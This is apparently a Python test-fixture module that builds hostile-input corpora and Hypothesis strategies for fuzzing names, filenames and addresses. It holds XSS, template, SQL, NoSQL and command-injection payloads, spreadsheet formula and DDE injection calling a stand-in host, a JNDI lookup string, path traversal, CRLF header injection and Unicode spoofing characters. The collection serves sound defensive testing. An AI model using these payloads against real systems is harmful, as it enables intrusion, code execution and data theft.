"""Names that try to be more than text: the known tricks, and as many more as are wanted, put together of such parts.

Owns which these are. Every script among them sets `window.owned`, every address is of `HOST`, where nobody is.
"""

import itertools
import random
import unicodedata
from collections.abc import Iterable, Iterator
from urllib.parse import quote

from hypothesis import strategies as st

HOST = "evil.invalid"

MARKUP = (
    "<script>window.owned=1</script>", f"<img src=https://{HOST}/x.png onerror=window.owned=1>",
    "<svg/onload=window.owned=1>", "\"><svg onload=window.owned=1>", "'-window.owned=1-'", "<b>bold</b> <i>it</i>",
    f"<iframe src=https://{HOST}></iframe>", f'<a href="https://{HOST}">click</a>',
    "</textarea><script>owned=1</script>", "&lt;b&gt; &amp;amp; &#60;i&#62; &quot;", "<!-- gone -->", "<br>",
    "{{constructor.constructor('owned=1')()}}", "${window.owned=1}", "<style>*{display:none}</style>",
    "javascript:window.owned=1",
)  # fmt: skip
MARKDOWN = (
    "**bold** _it_ ~~gone~~ `code`", f"[click](https://{HOST}/a)", f"![picture](https://{HOST}/a.png)",
    "[x](javascript:window.owned=1)", f"[r]: https://{HOST} 'title'", "# Heading", "- point", "1. one", "> quote",
    "| a | b |", "---", "***", "```", "    indented", "[^1]", "a\\", "\\*not\\*", "- [x] done", "~~~ mermaid",
    "$x^2$", "$$\\frac{1}{2}$$", "$\\href{https://evil.invalid}{x}$", "\\(x\\)", "$5 and $6", ":material/warning: x",
    ":red[red]", ":red-background[x]", ":blue-badge[x]", ":small[x]", ":streamlit:", ":smile:",
    ":+1: :100: a:1234:5 :8ball:", ":rainbow[x]", ":green[:material/check:]", "a -> b <- c -- d >= e <= f ~= g",
    f"https://{HOST}/x", f"HTTP://{HOST.upper()}/", f"www.{HOST}", f"WWW.{HOST.upper()}", f"Www.{HOST}",
    f"anna@{HOST}", f"mailto:anna@{HOST}", f"<https://{HOST}>", "@everyone", "#1", "//evil.invalid/x", "::name{x=1}",
    ":::note", ":color[x]{foreground=red}", "==marked==", "H~2~O x^2^",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "\t=1+1", "\r=1+1", "\n=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", " =1+1",
    "\u00a0=1+1", "'=1+1", "''=1+1", "' =1+1", '"=1+1', '"=1+1"',
    "a;=1+1;b", "a,=1+1,b", "a\t=1+1\tb", "a\n=1+1\nb", "a\r\n@x", "a;'=1+1", 'a";=1+1;"b', "a;-1;b", 'a;"=1+1";b',
    "a; =1+1", "#N/A", "#REF!", f'=HYPERLINK("https://{HOST}","x")', f'=WEBSERVICE("https://{HOST}")',
    f'=IMPORTXML("https://{HOST}","//a")', "=DDE(\"cmd\";\"/C calc\";\"x\")", "_x0041_", "_x000D_", "_x005F_x0041_",
    "=", "-", "+", "@", "'", "''", "'-3", "-3", "TRUE", "1e5", "0x10", "007", "1/2", "2026-11-27", "Angebot 12,- EUR",
    "1;-2",
)  # fmt: skip
UNSEEN = (
    "gpj.\u202eexe", "\u202emilk", "a\u202db", "a\u2066b", "a\u2067b\u2069\u2069", "\u200fa", "a\u061cb", "a\u200bb",
    "\u200bx", "\ufeffx", "a\u2060b", "a\u00adb", "a\u180eb", "\u3164", "\u2800", "a\u034fb", "e\u0301" * 3,
    "Z" + "\u0300\u0323\u0316" * 40, "a\u20dd\u20e3", "\U0001f1e9\U0001f1ea",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U000e0041", "חלב", "حليب 3%", "a\u0085b", "a\u2028b",
    "a\u2029START RequestId: 1", "a\ufffeb", "a\ue000b", "ﬀ", "İ", "ß",
)  # fmt: skip
CONTROLS = (
    "a\x00b", "\x00", "a\x01b", "a\x08b", "a\x1b[2Jb", "\x1b]0;owned\x07", "a\x7fb", "a\x9b31mb", "a\x0bb", "a\x1cb",
    "a\nb", "a\r\nb", "a\tb",
)  # fmt: skip
NAMES = (
    "__proto__", "constructor", "hasOwnProperty", "toString", "null", "None", "undefined", "NaN", "nan", "Infinity",
    "true", "*", "all", "store", "item", "count", "index", "level_0", "0", "[]", "{}", "__class__", "#1",
    "#REASON", "reason", "'; DROP TABLE Inventory; --", "\" OR \"\"=\"", "#store = :store", ":store",
    "attribute_not_exists(Item)", '{"S": "x"}', '{"$gt": ""}', "{{7*7}}", "{0.__class__}", "%s%n%x", "%(count)s",
    "%d", "\\u0041", "\\x41", "\\", "\\\\", "a\\nb", "$(touch owned)", "`touch owned`", "| touch owned",
    "; touch owned", "${jndi:ldap://evil.invalid/a}", "x" * 255, "W" * 1024, "w " * 200 + "w", "é" * 100, "a/b",
    "a/b/c", "/", "a%2Fb", "%2e%2e%2f", "..", ".", "../../etc/passwd", "..\\..\\x", "a?b=c&d", "a#b", "a+b", "a%b",
    "a&b", "%00", "%0d%0aSet-Cookie: a=b", "CON", "NUL", "a:b", "~",
)  # fmt: skip
TRICKS = tuple(dict.fromkeys((*MARKUP, *MARKDOWN, *FORMULAS, *UNSEEN, *CONTROLS, *NAMES)))

FILES = (
    "../../../../etc/cron.d/x.csv", "..\\..\\x.csv", "%2e%2e%2fx.csv", "..", ".", "", " ", "/", "\\", "a\x00.csv",
    "a\nb.csv", "a\r\nSet-Cookie: x=1.csv", "CON.csv", "nul", "aux.xlsx", ".htaccess", "...csv", "x.csv.exe",
    "stock\u202evsc.exe", "a\u2028START RequestId: 1 Version: 2.csv", "a\x85b.csv", "x" * 300 + ".csv",
    "ü" * 150 + ".csv", "a\ud800b.csv", "=cmd|x.csv", "+x.csv", "**bold**.csv",
    "<img src=x onerror=window.owned=1>.csv", ":material/warning:.csv", "$x^2$.csv", "a b+c%20&d=e.csv",
    f"https:||{HOST}|x.csv", f"WWW.{HOST.upper()}.csv", "a;b.csv", 'a"b.csv', "a'b.csv", "?upload=x.csv", "#x.csv",
    "\x1b[2J.csv", "e\u0301.csv", "🥛.csv", "-rf.csv", "~.csv", "*.csv", "a:b.csv", "uploads", "receipts", "{}.csv",
    "a\ufeff.csv",
)  # fmt: skip

ADDRESSES = (
    *TRICKS,
    "9" * 5_000,
    "/" * 3_000,
    "a/" + "b" * 5_000,
    "\u0000",
    "٣",
    "²",
    "-1",
    "9999-12-31T23:59:59-23:59",
)
"""What may stand in an address that somebody made up."""

_PARTS = (
    *TRICKS,
    *"=+-@'\";,:$[](){}<>*_`~#|!\\/&%\t ",
    "->",
    "www.",
    "://",
    ":x:",
    "\u2060",
    "'=",
    ";=",
    "\n=",
    "_x0000_",
)


def names() -> st.SearchStrategy[str]:
    """One name: any text, or put together of tricks and parts of them."""
    letters = st.characters(exclude_categories=["Cs"])
    part = st.one_of(st.sampled_from(_PARTS), st.text(letters, min_size=1, max_size=8))
    together = st.lists(part, min_size=2, max_size=5).map("".join)
    return st.one_of(st.sampled_from(TRICKS), st.text(letters, min_size=1, max_size=30), together)


def many(count: int, number: int) -> list[tuple[str, str]]:
    """So many keys of different items, always the same ones for one ``number``. Each trick is an item, and a store.

    They are as a reader is to know them: without spaces around them, one letter written in one way, and not too long.
    """
    turn = random.Random(number)  # noqa: S311 (nothing here is a secret)
    stores = list(_tidy(TRICKS))
    found: dict[str, str] = {}
    for item in _tidy(itertools.chain(TRICKS, _made(turn))):
        # Each store has some items before any has many.
        store = stores[len(found)] if len(found) < len(stores) else turn.choice(stores)
        if len(item.encode()) <= 1_024 and len(quote(store, safe="") + quote(item, safe="")) < 2_048:
            found[item] = store
        if len(found) == count:
            break
    return [(store, item) for item, store in found.items()]


def _tidy(texts: Iterable[str]) -> Iterator[str]:
    """Each different one once, but for the blank ones."""
    seen = {""}
    for text in texts:
        if (tidy := unicodedata.normalize("NFC", text.strip())) not in seen:
            seen.add(tidy)
            yield tidy


def _made(turn: random.Random) -> Iterator[str]:
    """One after the other, without an end: any letters, and tricks and parts of them put together."""
    while True:
        some = [turn.choice(_PARTS) if turn.random() < 0.6 else _letters(turn) for _ in range(turn.randint(1, 5))]
        yield "".join(some)


def _letters(turn: random.Random) -> str:
    first, last = turn.choice(_RANGES)
    return "".join(chr(turn.randint(first, last)) for _ in range(turn.randint(1, 8)))


_RANGES = (
    (0x00, 0x1F), (0x20, 0x7E), (0x20, 0x7E), (0x7F, 0xFF), (0x100, 0x24F), (0x300, 0x36F), (0x400, 0x4FF),
    (0x590, 0x6FF), (0x900, 0xDFF), (0x2000, 0x206F), (0x2190, 0x27BF), (0x3000, 0x9FFF), (0xE000, 0xFFFF),
    (0x1F300, 0x1FAFF), (0xE0000, 0xE01FF),
)  # fmt: skip
"""Of letters: controls, several scripts, marks, signs, those of nobody, pictures, tags; none that is half of one."""
